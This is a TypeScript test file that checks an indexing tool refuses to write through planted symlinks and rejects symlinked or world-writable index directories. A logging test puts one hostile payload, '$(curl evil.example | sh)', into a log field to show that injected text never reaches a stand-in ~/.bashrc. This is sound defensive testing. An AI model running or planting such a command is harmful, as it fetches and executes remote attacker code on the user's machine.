/**
 * Issue 45, finding 4: nothing the index writes follows a symlink out of its directory (log, lock targets, holder
 * temp files, the write intent, the pointer), and an index directory that is a symlink, holds one, or is writable by
 * other users is refused with a clear error, as ssh refuses such a `~/.ssh`. Real files, real symlinks, the real
 * program in child processes.
 */
import {
	chmodSync,
	existsSync,
	mkdirSync,
	mkdtempSync,
	readFileSync,
	realpathSync,
	rmSync,
	statSync,
	symlinkSync,
	utimesSync,
	writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createLogger, LOG_FILE } from "../../src/files/log.js";
import { announceWrite, writeDone } from "../../src/ingest/write-intent.js";
import { takeLock } from "../../src/store/lock.js";
import { openStore } from "../../src/store/open-store.js";
import { cli, hasStack, hermeticEnv, makeAgentDir } from "../cli/cli-harness.js";

let tmp: string;
let indexDir: string;
/** A file outside the index directory standing for `~/.bashrc`. */
let rc: string;
const RC_TEXT = "export PATH=$HOME/bin:$PATH\n";

beforeEach(() => {
	tmp = realpathSync(mkdtempSync(join(tmpdir(), "pei-symlink-")));
	indexDir = join(tmp, "index");
	mkdirSync(indexDir, { mode: 0o700 });
	rc = join(tmp, "bashrc");
	writeFileSync(rc, RC_TEXT);
});

afterEach(() => {
	rmSync(tmp, { recursive: true, force: true });
});

describe("writes never follow a symlink planted in the index directory", () => {
	it("the log drops a line rather than append it through a symlinked event-index.log", () => {
		symlinkSync(rc, join(indexDir, LOG_FILE));
		createLogger(indexDir).log("warn", "config_problem", { problem: "$(curl evil.example | sh)" });
		expect(readFileSync(rc, "utf8")).toBe(RC_TEXT);
	});

	it("a lock target, a holder temp file and the write intent never reach their link's target", async () => {
		const outside = join(tmp, "created-outside");
		symlinkSync(outside, join(indexDir, "store.lock-target"));
		const refused = await takeLock(indexDir, "store");
		expect(refused.ok).toBe(false);
		expect(existsSync(outside)).toBe(false);

		symlinkSync(rc, join(indexDir, `catch-up.holder.json.${process.pid}.tmp`));
		const taken = await takeLock(indexDir, "catch-up");
		expect(taken.ok).toBe(true);
		if (taken.ok) await taken.handle.release();
		expect(readFileSync(rc, "utf8")).toBe(RC_TEXT);

		const old = new Date(Date.UTC(2020, 0, 1));
		utimesSync(rc, old, old);
		symlinkSync(rc, join(indexDir, "write-intent"));
		announceWrite(indexDir);
		writeDone(indexDir);
		expect(statSync(rc).mtimeMs).toBe(old.getTime());
		expect(readFileSync(rc, "utf8")).toBe(RC_TEXT);
	});
});

describe("an unsafe index directory is refused", () => {
	let agentDir: string;
	let env: Record<string, string>;
	beforeEach(() => {
		agentDir = join(tmp, "agent");
		makeAgentDir(agentDir);
		mkdirSync(join(tmp, "home"));
		env = hermeticEnv(join(tmp, "home"));
	});
	const reindex = (dir: string) => cli(["reindex", "--agent-dir", agentDir, "--index-dir", dir], { env });

	it("a symlinked index directory, or one holding a symlink", async () => {
		const link = join(tmp, "index-link");
		symlinkSync(indexDir, link);
		const viaLink = await reindex(link);
		expect(viaLink.code).toBe(1);
		expect(viaLink.stderr).toContain("the index directory is a symlink");
		expect(hasStack(viaLink.stderr)).toBe(false);
		expect(existsSync(join(indexDir, LOG_FILE))).toBe(false);

		symlinkSync(rc, join(indexDir, LOG_FILE));
		const holding = await reindex(indexDir);
		expect(holding.code).toBe(1);
		expect(holding.stderr).toContain(`the index directory's entry "${LOG_FILE}" is a symlink`);
		expect(readFileSync(rc, "utf8")).toBe(RC_TEXT);
		// The store opener refuses it too (the catch-up worker, status and verify open through it).
		const opened = await openStore({ dir: indexDir });
		expect(opened.ok).toBe(false);
		if (!opened.ok) expect(opened.code).toBe("unsafe");
	});

	it("an index directory other users can write, until chmod go-w; a new one is created private", async () => {
		chmodSync(indexDir, 0o777);
		const open = await reindex(indexDir);
		expect(open.code).toBe(1);
		expect(open.stderr).toContain("the index directory is writable by other users (mode 777; chmod go-w fixes it)");
		chmodSync(indexDir, 0o755);
		expect((await reindex(indexDir)).code).toBe(0);

		const fresh = join(tmp, "fresh", "index");
		const built = await reindex(fresh);
		expect(built.code, built.stderr).toBe(0);
		expect(statSync(fresh).mode & 0o777).toBe(0o700);
		expect(statSync(join(fresh, LOG_FILE)).mode & 0o022).toBe(0);
	});
});
